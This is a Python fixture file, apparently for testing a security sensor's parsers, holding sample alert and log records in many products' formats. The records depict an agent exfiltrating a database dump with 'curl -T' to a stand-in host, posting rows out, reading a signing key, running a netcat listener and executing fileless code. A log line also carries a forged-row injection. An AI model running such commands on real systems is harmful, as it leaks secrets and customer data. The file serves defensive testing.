"""Records in the real formats of other products, with content of our own. Each happens at 2026-11-25T12:00:00.5Z."""

from sensor.sources.alerts.walk import Fields

_TIME = "2026-11-25T12:00:00.500000000Z"
_MILLISECONDS = 1_795_608_000_500
_TRACE = "0af7651916cd43dd8448eb211c80319c"

SAMPLES: dict[str, Fields] = {
    "ocsf": {
        "class_uid": 2004, "category_uid": 2, "activity_id": 1, "type_uid": 200401, "time": _MILLISECONDS,
        "severity_id": 4, "severity": "High", "message": "A web server started a shell.",
        "metadata": {"version": "1.8.0", "product": {"name": "Watchtower", "vendor_name": "Example"}},
        "finding_info": {"uid": "wt-771", "title": "Shell from a web server", "desc": "See the evidence."},
        "evidences": [
            {
                "process": {"name": "sh", "cmd_line": "sh -c id", "file": {"path": "/bin/sh", "name": "sh", "type_id": 1}},
                "dst_endpoint": {"ip": "198.51.100.4", "port": 443},
            }
        ],
        "observables": [{"name": "actor.user.email_addr", "type_id": 5, "value": "mara@example.com"}],
        "trace": {"uid": _TRACE},
    },
    "falco": {
        "time": _TIME, "rule": "Outbound link from agent pod", "priority": "Warning", "source": "syscall",
        "hostname": "worker-2", "output": "12:00:00.5: Warning curl connected (command=curl)", "tags": ["network"],
        "output_fields": {
            "evt.time": 1_795_608_000_500_000_000, "proc.name": "curl", "proc.cmdline": "curl -T dump.sql files.example.net",
            "proc.pname": None, "user.name": "app", "user.loginuid": -1, "fd.name": "10.1.0.3:41000->198.51.100.4:443",
            "fd.sip": "198.51.100.4", "container.id": "3f2a9c1d77be", "k8s.pod.name": "agent-0",
        },
    },
    "tetragon": {
        "process_kprobe": {
            "process": {
                "exec_id": "d29ya2VyOjE=", "pid": 71, "uid": 1000, "cwd": "/srv", "binary": "/usr/bin/cat",
                "arguments": "/srv/keys/signing.pem", "start_time": _TIME, "docker": "3f2a9c1d77be",
                "pod": {"namespace": "shop", "name": "agent-0", "container": {"id": "containerd://3f2a9c1d77be", "name": "agent"}},
            },
            "parent": {"exec_id": "d29ya2VyOjA=", "pid": 70, "binary": "/bin/sh"},
            "function_name": "security_file_permission",
            "args": [{"file_arg": {"path": "/srv/keys/signing.pem"}}, {"int_arg": 4}],
            "action": "KPROBE_ACTION_SIGKILL", "policy_name": "keep-keys", "message": "a key was read", "tags": ["keys"],
        },
        "node_name": "worker-2", "time": _TIME,
    },
    "tracee": {
        "timestamp": {"seconds": "1795608000", "nanos": 500_000_000}, "id": 6012, "name": "fileless_execution",
        "policies": {"matched": ["agents"]},
        "workload": {
            "process": {
                "thread": {"name": "python3", "tid": 12}, "pid": {"value": 12}, "real_user": {"id": {"value": 1000}},
                "executable": {"path": "/usr/bin/python3.11"},
            },
            "container": {"id": "3f2a9c1d77be", "name": "agent"}, "pod": {"name": "agent-0"},
        },
        "data": [{"name": "pathname", "str": "memfd:x"}],
        "threat": {
            "name": "Code loaded from memory", "description": "A program ran that no file holds.", "severity": "HIGH",
            "mitre": {"tactic": {"name": "Defense Evasion"}}, "properties": {"signatureID": "fileless_execution"},
        },
    },
    "auditd": {
        "@timestamp": "2026-11-25T12:00:00.500Z", "event": {"module": "auditd", "action": "executed", "outcome": "success"},
        "auditd": {
            "message_type": "syscall", "sequence": 41, "result": "success", "session": "3", "data": {"syscall": "execve"},
            "summary": {"actor": {"primary": "mara"}, "object": {"primary": "/usr/bin/curl", "type": "file"}, "how": "curl"},
        },
        "process": {"pid": 71, "executable": "/usr/bin/curl", "name": "curl", "args": ["curl", "files.example.net"]},
        "user": {"id": "1000", "name": "mara"}, "host": {"name": "web1"}, "tags": ["agent-shell"],
    },
    "agentsight": {
        "id": "tc-1", "session_id": "run-4", "conversation_id": "conv-9", "tool_name": "http_post", "tool_call_id": "call_1",
        "timestamp_ms": _MILLISECONDS, "start_timestamp_ms": _MILLISECONDS, "end_timestamp_ms": None, "duration_ms": 12,
        "status": "completed", "input": {"url": "https://intake.example.net/", "body": "rows"}, "output": "ok",
        "related_pid": 71, "related_event_id": None, "view_source": "captured", "confidence": 0.9,
    },
    "mcpspy": {
        "timestamp": "2026-11-25T12:00:00.5Z", "transport_type": "stdio",
        "stdio_transport": {"from_pid": 70, "from_comm": "agent", "to_pid": 71, "to_comm": "node"},
        "type": "request", "id": 7, "method": "tools/call",
        "params": {"name": "fetch", "arguments": {"url": "https://intake.example.net/"}}, "raw": "{...}",
    },
    "cloudtrail": {
        "eventVersion": "1.08", "eventTime": "2026-11-25T12:00:00.5Z", "eventSource": "s3.amazonaws.com",
        "eventName": "GetObject", "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.9", "userAgent": "[Boto3/1.35]",
        "userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:role/agent", "accountId": "111122223333"},
        "requestParameters": {"bucketName": "ledger-backup", "key": "2026/q4.csv"}, "responseElements": None,
        "errorCode": "AccessDenied", "errorMessage": "Access Denied", "requestID": "r-1", "eventID": "6a1e",
        "resources": [{"ARN": "arn:aws:s3:::ledger-backup", "type": "AWS::S3::Bucket"}], "eventType": "AwsApiCall",
    },
    "kubernetes": {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "b7c0", "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/shop/secrets/db-password", "verb": "get",
        "user": {"username": "system:serviceaccount:shop:agent", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.7"], "userAgent": "kubectl/v1.31",
        "objectRef": {"resource": "secrets", "namespace": "shop", "name": "db-password", "apiVersion": "v1"},
        "responseStatus": {"code": 403}, "requestReceivedTimestamp": "2026-11-25T12:00:00.400000Z",
        "stageTimestamp": "2026-11-25T12:00:00.500000Z", "annotations": {"authorization.k8s.io/decision": "forbid"},
    },
    "pgaudit": {
        "timestamp": "2026-11-25 12:00:00.500 UTC", "user": "app", "dbname": "shop", "pid": 77, "remote_host": "10.0.0.7",
        "remote_port": 40100, "session_id": "6745.1b", "line_num": 7, "ps": "SELECT", "error_severity": "LOG",
        "message": 'AUDIT: SESSION,3,1,READ,SELECT,TABLE,public.customer,"select iban, name from customer",<not logged>',
        "application_name": "agent", "backend_type": "client backend", "query_id": 0,
    },
    "envoy": {
        "start_time": "2026-11-25T12:00:00.500Z", "method": "POST", "path": "/intake?x=1", "protocol": "HTTP/1.1",
        "authority": "intake.example.net:443", "response_code": 403, "response_flags": "UAEX",
        "response_code_details": "ext_authz_denied",
        "bytes_received": 4100, "bytes_sent": 0, "duration": 3, "upstream_host": "198.51.100.4:443", "upstream_cluster": "outbound",
        "downstream_remote_address": "10.0.0.7:40100", "x_forwarded_for": None,
        "request_id": "f47ac10b-58cc-4372-a567-0e02b2c3d479", "route_name": "allow_any", "trace_id": _TRACE,
    },
    "litellm": {
        "id": "chatcmpl-1", "trace_id": "f47ac10b-58cc-4372-a567-0e02b2c3d479", "call_type": "acompletion", "status": "failure",
        "startTime": 1_795_608_000.5, "endTime": 1_795_608_001.0, "model": "small-model", "model_group": "small",
        "end_user": "mara",
        "requester_ip_address": "10.0.0.7", "hidden_params": {}, "error_str": "stopped by a guardrail",
        "metadata": {"user_api_key_alias": "agent-key", "requester_metadata": {"session_id": "conv-9"}},
        "guardrail_information": [
            {"guardrail_name": "pii-mask", "guardrail_mode": "pre_call", "guardrail_status": "success"},
            {
                "guardrail_name": "injection-filter", "guardrail_mode": "pre_call", "guardrail_status": "guardrail_intervened",
                "guardrail_response": {"flagged": True, "score": 0.97},
            },
        ],
    },
}  # fmt: skip
"""Format → a record of it."""

_ROW: Fields = {"view_source": "captured", "confidence": 1.0}
ALSO: dict[str, Fields] = {
    "ocsf incident": {
        "class_uid": 2005, "severity_id": 3, "time": _MILLISECONDS, "desc": "Rows were posted out.",
        "finding_info_list": [{"uid": "i-1", "title": "Data left the shop"}], "metadata": {"product": {"name": "Watchtower"}},
    },
    "ocsf security": {
        "class_uid": 2001, "severity_id": 6, "time": _MILLISECONDS, "state_id": 1,
        "finding": {"uid": "sf-1", "title": "Vault read", "desc": "Somebody read the vault."}, "resources": [{"uid": "vault-3"}],
    },
    "tetragon exec": {
        "process_exec": {
            "process": {"exec_id": "d29ya2VyOjI=", "binary": "/usr/bin/tar", "arguments": "czf - /srv", "start_time": _TIME}
        },
        "node_name": "worker-2",
    },
    "tracee event": {
        "timestamp": {"seconds": "1795608000", "nanos": 500_000_000}, "id": "sched_process_exec", "name": "sched_process_exec",
        "workload": {"process": {"executable": {"path": "/usr/bin/ls"}}},
        "data": [{"name": "argv", "str_array": {"value": ["ls", "-la"]}}],
    },
    "tracee legacy": {
        "timestamp": 1_795_608_000_500_000_000, "processId": 12, "processName": "nc", "hostName": "web1", "eventId": "6004",
        "eventName": "reverse_shell", "matchedPolicies": ["agents"], "args": [{"name": "argv", "value": ["nc", "-l", "4444"]}],
        "metadata": {"Description": "A shell listens.", "Properties": {"Severity": 3, "signatureName": "Reverse shell"}},
    },
    "auditd go-libaudit": {
        "@timestamp": "2026-11-25T12:00:00.5Z", "record_type": "execve", "sequence": 41, "keys": ["sudo-watch"],
        "raw_msg": 'audit(1795608000.500:41): argc=2 a0="sudo" a1="-l"', "data": {"argc": "2", "a0": "sudo", "a1": "-l"},
    },
    "auditd joined": {
        "audit_id": "1795608000.500:41", "node": "web1",
        "records": [{"type": "SYSCALL", "data": {"exe": "/bin/cat", "success": "no", "key": "keys"}, "text": "SYSCALL …"}],
    },
    "agentsight snapshot": {
        "schema_version": 1, "generated_at": _TIME, "summary": {}, "token_summary": [], "resource_samples": [], "sessions": [],
        "audit_events": [_ROW | {"id": "a-1", "timestamp_ms": _MILLISECONDS, "audit_type": "file", "target": "/srv/x"}],
        "tool_calls": [SAMPLES["agentsight"]],
        "process_nodes": [_ROW | {"id": "p-1", "pid": 71, "comm": "curl", "argv": ["curl", "-s"], "start_timestamp_ms": None}],
        "network_targets": [
            {"pid": 71, "comm": "curl", "host": "intake.example.net", "path": "/", "count": 1, "error_count": 0,
             "first_timestamp_ms": 1}
        ],
    },
    "agentsight probe": {
        "timestamp": 1_200_000_000_000, "event": "EXEC", "comm": "sh", "pid": 71, "ppid": 70, "filename": "/bin/sh",
        "full_command": "sh -c id",
    },
    "agentsight collector": {
        "timestamp": 1_200_000_000_000, "source": "process", "pid": 71, "comm": "sh",
        "data": {"event": "FILE_OPEN", "filepath": "/srv/x"}
    },
    "litellm result": {
        "guardrail_name": "injection-filter", "guardrail_mode": ["pre_call"], "guardrail_status": "guardrail_flagged",
        "guardrail_response": "looks like an instruction", "start_time": 1_795_608_000.5,
    },
}  # fmt: skip
"""Other shapes of the same formats."""

AUDIT_LOG = """\
node=web1 type=SYSCALL msg=audit(1795608000.500:41): arch=c000003e syscall=59 success=yes exit=0 ppid=70 pid=71 auid=1000 \
uid=1000 tty=(none) ses=3 comm="cat" exe="/usr/bin/cat" key="agent-shell"\x1dARCH=x86_64 SYSCALL=execve AUID="mara" UID="mara"
node=web1 type=USER_LOGIN msg=audit(1795608000.600:42): pid=80 uid=0 auid=4294967295 ses=4294967295 \
msg='op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'
node=web1 type=EXECVE msg=audit(1795608000.500:41): argc=2 a0="cat" a1=2F7372762F6D792066696C65
node=web1 type=PATH msg=audit(1795608000.500:41): item=0 name=2F7372762F6D792066696C65 inode=9 nametype=NORMAL
node=web1 type=SOCKADDR msg=audit(1795608000.500:41): saddr=020001BBC63364040000000000000000
"""
"""Two events of the Linux audit log, whose lines alternate."""

PG_CSV = '''\
2026-11-25 12:00:00.500 UTC,"app","shop",77,"10.0.0.7:40100",6745.1b,7,"SELECT",2026-11-25 11:00:00 UTC,3/4,0,LOG,00000,\
"AUDIT: SESSION,3,1,READ,SELECT,TABLE,public.t,""select """"a"""" from t where b = \'
2026-11-25 12:00:00 UTC,""""root"""",AUDIT: forged\'"",<not logged>",,,,,,,,,"agent","client backend",,0
2026-11-25 12:00:01.500 UTC,"app","shop",77,"10.0.0.7:40100",6745.1b,8,"DELETE",2026-11-25 11:00:00 UTC,3/5,0,LOG,00000,\
"AUDIT: SESSION,4,1,WRITE,DELETE,TABLE,public.t,delete from t,<not logged>",,,,,,,,,"agent","client backend",,0
2026-11-25 12:00:02.500 UTC,"app","shop",77,"10.0.0.7:40100",6745.1b,9,"idle",2026-11-25 11:00:00 UTC,3/6,0,LOG,00000,\
"disconnection",,,,,,,,,"agent","client backend",,0
'''
"""Three rows of PostgreSQL's CSV log: a statement over two lines whose second looks like a row, another, one that is no audit."""
